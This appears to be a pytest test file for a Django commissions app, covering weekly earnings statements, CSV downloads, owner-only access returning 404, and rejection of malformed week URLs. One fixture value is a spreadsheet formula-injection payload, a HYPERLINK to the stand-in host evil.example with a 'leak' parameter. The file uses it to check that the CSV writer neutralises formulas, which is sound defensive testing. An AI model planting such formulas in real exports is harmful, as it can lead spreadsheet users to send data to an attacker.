"""Earnings pages for pay weeks: a plan paying fast start and retail profit every week lists its
closed weeks beside the months, each with a statement, a CSV and line details at
``/earnings/week-YYYY-MM-DD/``; private to their owner like a month's (404, never 403)."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse

from commissions.models import CommissionLine, LineKind
from commissions.services.plans import plan_version_create
from commissions.services.weeks import calculate_week, close_week
from core.periods import Week
from genealogy.models import Distributor
from tests.commissions.test_weekly_pay import weekly_document
from tests.factories import PASSWORD, UserFactory, buy, log_in_with_mfa, make_distributor

pytestmark = pytest.mark.django_db(transaction=True)

WEEK = Week(dt.date(2026, 3, 9))  # Monday 9 – Sunday 15 March 2026
IN_WEEK = dt.datetime(2026, 3, 10, 15, 0, tzinfo=dt.UTC)
AFTER_GRACE = dt.datetime(2026, 4, 30, 12, 0, tzinfo=dt.UTC)
FORMULA = '=HYPERLINK("http://evil.example/?leak","Click")'


def week_args(week: Week = WEEK) -> list[str]:
    return [week.first_day.isoformat()]


def login(client, distributor):
    assert client.login(email=distributor.user.email, password=PASSWORD)


def close(week: Week) -> None:
    calculate_week(week=week)
    close_week(week=week, now=AFTER_GRACE)


@pytest.fixture
def team(db):
    """Ann → Cal → Dee → Eve (each enrolls the next), joined 1 March 2026, all buying in the
    week: fast start 10 % goes to each buyer's enroller (Dee 20.00 on Eve's 200)."""
    plan_version_create(source=json.dumps(weekly_document()), effective_from=dt.date(2026, 1, 1))
    people = []
    sponsor = None
    for name in ("Ann Avery", "Cal Diaz", "Dee Brown", "Eve Stone"):
        sponsor = make_distributor(sponsor=sponsor, name=name)
        people.append(sponsor)
    Distributor.objects.filter(pk__in=[p.pk for p in people]).update(joined_on=dt.date(2026, 3, 1))
    for person, volume in zip(people, ("100", "120", "100", "200"), strict=True):
        buy(person, volume, paid_at=IN_WEEK)
    return people


@pytest.fixture
def closed_week(team):
    close(WEEK)
    return team


def test_distributor_sees_their_weekly_fast_start_line(client, closed_week):
    ann, cal, dee, eve = closed_week
    login(client, dee)

    home = client.get(reverse("earnings_home")).content.decode()
    page = client.get(reverse("earnings_week", args=week_args()))

    week_url = "/earnings/week-2026-03-09/"
    assert reverse("earnings_week", args=week_args()) == week_url
    assert f'href="{week_url}"' in home and "Week of 2026-03-09" in home
    assert page.status_code == 200
    text = page.content.decode()
    assert "Statement Week of 2026-03-09" in text
    assert "Fast start: 10 % of 200.00 CV of Eve Stone" in text and "20.00 USD" in text
    line = CommissionLine.objects.get(earner=dee, kind=LineKind.FAST_START)
    detail_url = reverse("earnings_week_line", args=[*week_args(), line.pk])
    assert detail_url in text  # the Explain button asks the week's line URL
    assert reverse("earnings_week_csv", args=week_args()) in text
    detail = client.get(detail_url)
    assert detail.status_code == 200
    assert f"Order #{line.source_line.order_id}" in detail.content.decode()
    assert "200.00" in detail.content.decode()


def test_the_weeks_csv_names_each_source_through_the_formula_safe_writer(client, team):
    ann, cal, dee, eve = team
    eve.user.name = FORMULA
    eve.user.save()
    close(WEEK)
    login(client, dee)

    response = client.get(reverse("earnings_week_csv", args=week_args()))

    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    assert f"statement-{dee.number}-week-2026-03-09.csv" in response["Content-Disposition"]
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    assert rows[0][:2] == ["period", "kind"]
    fast_start = [row for row in rows[1:] if row[1] == "Fast start"]
    assert fast_start == [
        [
            "week of 2026-03-09",
            "Fast start",
            "0",
            str(eve.number),
            "'" + FORMULA,  # neutralized: a spreadsheet shows it as text
            f"Fast start: 10 % of 200.00 CV of {FORMULA} (order line #"
            f"{CommissionLine.objects.get(earner=dee).source_line_id})",
            "200.00",
            "10",
            "20.00",
        ]
    ]


@pytest.mark.parametrize("viewer", ["upline", "downline", "stranger"])
@pytest.mark.parametrize("route", ["earnings_week", "earnings_week_csv", "earnings_week_line"])
def test_anyone_elses_weekly_statement_is_a_404(client, closed_week, viewer, route):
    ann, cal, dee, eve = closed_week
    line = CommissionLine.objects.get(earner=dee, kind=LineKind.FAST_START)
    person = {"upline": cal, "downline": eve, "stranger": make_distributor()}[viewer]
    login(client, person)
    args = [*week_args(), line.pk] if route == "earnings_week_line" else week_args()

    assert client.get(reverse(route, args=args), {"number": dee.number}).status_code == 404


def test_someone_elses_weekly_line_is_a_404_on_ones_own_week(client, closed_week):
    ann, cal, dee, eve = closed_week
    others = CommissionLine.objects.get(earner=cal, kind=LineKind.FAST_START)
    login(client, dee)

    url = reverse("earnings_week_line", args=[*week_args(), others.pk])
    assert client.get(url).status_code == 404


@pytest.mark.parametrize(
    "text",
    [
        "2026-03-10",  # a Tuesday: no pay week starts on it
        "2026-03-16",  # the next Monday: nothing calculated
        "2026-3-9",
        "20260309",
        "2026-W11",
        "2026-W11-1",
        "2026-02-30",
        "0000-00-00",
        "2026-03-09 ",
        "٢٠٢٦-٠٣-٠٩",
        "abc",
        "9" * 30,
    ],
)
def test_bad_or_unknown_weeks_are_404(client, closed_week, text):
    login(client, closed_week[2])
    for route in ("earnings_week", "earnings_week_csv"):
        assert client.get(reverse(route, args=[text])).status_code == 404
    line = CommissionLine.objects.filter(earner=closed_week[2]).first()
    assert client.get(reverse("earnings_week_line", args=[text, line.pk])).status_code == 404


def test_a_week_is_never_read_as_a_month_nor_a_month_as_a_week(client, closed_week):
    login(client, closed_week[2])
    # The month of March is not closed: its URL is a 404 though the week in it is closed.
    assert client.get(reverse("earnings_statement", args=["2026-03"])).status_code == 404
    assert client.get("/earnings/2026-03-09/").status_code == 404
    assert client.get("/earnings/week-2026-03/").status_code == 404


def test_a_calculated_week_is_a_preview_for_its_distributor_and_under_review_for_staff(
    client, team
):
    ann, cal, dee, eve = team
    calculate_week(week=WEEK)  # not closed
    login(client, dee)

    home = client.get(reverse("earnings_home")).content.decode()

    assert "Week of 2026-03-09 (preview)" in home and "20.00 USD" in home
    assert 'href="/earnings/week-2026-03-09/"' not in home
    assert client.get(reverse("earnings_week", args=week_args())).status_code == 404
    staff = UserFactory(is_staff=True)
    client.logout()
    log_in_with_mfa(client, staff)
    page = client.get(reverse("earnings_week", args=week_args()), {"number": dee.number})
    assert page.status_code == 200 and "Under review: not final" in page.content.decode()
    listed = client.get(reverse("earnings_home"), {"number": dee.number}).content.decode()
    assert f'href="/earnings/week-2026-03-09/?number={dee.number}"' in listed


def test_weeks_a_distributor_has_no_part_in_or_before_they_joined_are_not_listed(
    client, closed_week
):
    ann, cal, dee, eve = closed_week
    loner = make_distributor(name="Lou Loner")
    login(client, loner)
    assert "Week of 2026-03-09" not in client.get(reverse("earnings_home")).content.decode()
    login(client, dee)
    assert "Week of 2026-03-09" in client.get(reverse("earnings_home")).content.decode()

    # As for a month: no statement is listed for a week that ended before they joined.
    Distributor.objects.filter(pk=dee.pk).update(joined_on=WEEK.last_day + dt.timedelta(days=1))

    home = client.get(reverse("earnings_home")).content.decode()
    assert "Week of 2026-03-09" not in home and "No statements yet" in home


def home_queries(client) -> int:
    with CaptureQueriesContext(connection) as context:
        assert client.get(reverse("earnings_home")).status_code == 200
    return len(context.captured_queries)


def test_earnings_home_reads_a_fixed_number_of_queries_however_many_weeks(client, closed_week):
    ann, cal, dee, eve = closed_week
    login(client, dee)
    one_week = home_queries(client)
    for week in (WEEK.next(), WEEK.next().next()):
        buy(eve, "50", paid_at=week.start + dt.timedelta(days=1))
        close(week)

    three_weeks = home_queries(client)

    assert client.get(reverse("earnings_home")).content.decode().count("Week of 2026-03-") == 3
    assert three_weeks == one_week
